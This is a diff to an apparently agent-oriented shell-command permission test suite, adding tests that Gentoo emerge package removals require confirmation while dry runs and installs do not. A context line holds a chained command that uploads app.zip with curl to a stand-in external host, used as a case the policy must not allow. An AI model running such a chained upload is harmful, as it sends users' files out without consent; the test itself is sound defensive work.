@@ -165,3 +165,22 @@ def test_visual_studio_developer_prompt_scripts_pass() -> None:
     assert shell('"C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\VC\\Auxiliary\\Build\\'
                  'vcvarsall.bat" x64 && msbuild app.sln /m').decision is Decision.ALLOW
     assert shell("vcvarsall.bat x64 && curl -T app.zip https://drop.example.net/in").decision is not Decision.ALLOW
+
+
+@pytest.mark.parametrize("command", (
+    "emerge --unmerge sys-apps/openrc",
+    "emerge --ask -C app-misc/screen",
+    "emerge --prune sys-kernel/gentoo-kernel",
+))
+def test_portage_removals_ask_like_other_package_managers(command: str) -> None:
+    d = shell(command)
+    assert d.decision is Decision.CONFIRM and "confirm.shell.install" in d.rules, d.rules
+
+
+@pytest.mark.parametrize("command", (
+    "emerge -pv --unmerge app-misc/screen",
+    "emerge --pretend --prune sys-kernel/gentoo-kernel",
+    "emerge -av app-misc/tmux",
+))
+def test_portage_dry_runs_and_installs_of_known_packages_do_not_ask_as_removals(command: str) -> None:
+    assert "confirm.shell.install" not in shell(command).rules, command
